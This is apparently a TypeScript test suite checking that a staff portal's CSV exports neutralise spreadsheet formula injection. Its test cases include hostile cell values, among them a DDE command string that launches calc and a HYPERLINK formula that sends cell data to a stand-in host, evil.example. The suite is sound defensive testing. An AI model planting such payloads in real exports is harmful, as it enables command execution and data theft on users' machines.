/** Abuse case 28: cells that begin with = + - @, a tab or a NUL are neutralised: no spreadsheet runs them. */
import * as fc from 'fast-check';
import { csvOf, type Cell } from '../../src/core/csv';
import { docOf, nameOf, type MeasuresDoc } from '../../src/app/measures/measures';
import { makeCrew } from '../tools/crew';
import { fakeServices } from '../tools/fake-services';
import { memoryStore } from '../tools/memory-store';
import { startPortal } from '../tools/portal';
import { appCode, password, staffPeople, staffWorld } from '../tools/staff-world';

/** Reads what was written, as RFC 4180 says, without guessing. */
function read(csv: string): string[][] {
  const rows: string[][] = [[]];
  let at = csv.startsWith('\ufeff') ? 1 : 0;
  while (at < csv.length) {
    const row = rows.at(-1) ?? [];
    let value = '';
    if (csv[at] === '"') {
      for (at += 1; csv[at] !== '"' || csv[at + 1] === '"'; at += 1) {
        if (csv[at] === '"') at += 1;
        value += csv[at];
        if (at > csv.length) throw new Error('A cell does not end.');
      }
      at += 1;
    } else while (at < csv.length && csv[at] !== ',' && csv[at] !== '\r') value += csv[at++];
    row.push(value);
    if (csv[at] === ',') at += 1;
    else if (csv.startsWith('\r\n', at)) {
      at += 2;
      rows.push([]);
    } else throw new Error(`Neither a comma nor an end of line at ${at}.`);
  }
  return rows.filter((row) => row.length > 0);
}
const one = (cell: Cell): string => read(csvOf(['head'], [[cell]]))[1]?.[0] ?? 'no cell';

/** What a spreadsheet takes for a formula or a command: OWASP, "CSV Injection", with the wide forms of the signs. */
const runs = /^[\s\0]*[=+\-@|%＝＋－＠]/u;

test.each([
  '=1+1',
  '+441314960101',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '|calc',
  '%0A=1',
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
])('28: %j is text', (cell) => {
  const seen = one(cell);
  expect(seen).not.toMatch(runs);
  expect(seen.startsWith("'")).toBe(true);
  expect(seen).not.toMatch(/[\0\t\r\n]/);
});

test('28: harmless text stays as it is, and our own figures are numbers', () => {
  expect(one('Mira Okafor')).toBe('Mira Okafor');
  expect(one('O"Brien, "Pat"')).toBe('O"Brien, "Pat"');
  expect(one('a=b')).toBe('a=b');
  expect(one(-3)).toBe('-3');
  expect(one(Number.NaN)).toBe('');
  expect(one(undefined)).toBe('');
});

test('28: whatever is in a cell, it is one cell of one row, it is no formula, and no separator splits it', () => {
  const text = fc.string({ unit: 'grapheme', maxLength: 30 });
  const nasty = fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\0', ';', ',', '"', '\n', ' '), text)
    .map(([sign, more]) => sign + more);
  fc.assert(
    fc.property(fc.array(fc.oneof(text, nasty), { minLength: 1, maxLength: 5 }), (cells) => {
      const csv = csvOf(['head'], [cells]);
      const [, row, ...more] = read(csv);
      expect(more).toEqual([]);
      expect(row).toHaveLength(cells.length);
      for (const cell of row ?? []) expect(cell).not.toMatch(runs);
      // Every text is in quotes: where ";" separates, nothing begins a cell of its own.
      for (const line of csv.slice(1).split('\r\n')) expect(line).toMatch(/^(?:"(?:[^"]|"")*"(?:,|$))*$/);
    }),
    { numRuns: 500 },
  );
});

test('28: the files of the figures go that way: a colleague whose name is a formula', async () => {
  const crew = makeCrew();
  const store = memoryStore(crew.clock);
  const running = await crew.run(store);
  const name = '=HYPERLINK("https://evil.example","Ines")';
  await running.directory.create({ id: 'ines', name, signInName: 'x@alder.example', roles: ['approver'] });
  await running.directory.create({
    id: 'greta',
    name: 'Greta',
    signInName: 'g@alder.example',
    roles: ['auditor'],
  });
  const today = Math.floor(crew.clock.now() / 86_400_000);
  const counts = { [nameOf(['decided', 'approved', 'ines'])]: 4, [nameOf(['begun', '=topic'])]: 2 };
  await store.insert<MeasuresDoc>('measures', docOf(today, counts));

  const { services } = staffWorld(fakeServices().services);
  const portal = await startPortal({ services: { ...services, figures: running.services.figures } });
  try {
    const browser = portal.browser();
    await browser.get('/sign-in?next=/staff/insights');
    const identifier = staffPeople['greta']?.signInName ?? '';
    await browser.post('/sign-in', { identifier, password, code: appCode, next: '/staff/insights' });
    const decisions = await browser.get('/staff/insights/decisions.csv');
    expect(decisions.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(decisions.headers.get('content-disposition')).toContain('attachment');
    expect(read(`\ufeff${decisions.html.replace('\ufeff', '')}`)).toEqual([
      ['Who', 'Approved', 'Denied'],
      [`'${name}`, '4', '0'],
    ]);
    expect(read((await browser.get('/staff/insights/topics.csv')).html)[1]?.[0]).toBe("'=topic");
    for (const table of ['days', 'recovery', 'stops', 'methods', 'deliveries']) {
      const page = await browser.get(`/staff/insights/${table}.csv`);
      expect({ table, status: page.status }).toEqual({ table, status: 200 });
      for (const cell of read(page.html).flat()) expect(cell).not.toMatch(/^[=+@\t]/);
    }
    expect((await browser.get('/staff/insights/people.csv')).status).toBe(404);
  } finally {
    await portal.close();
  }
});
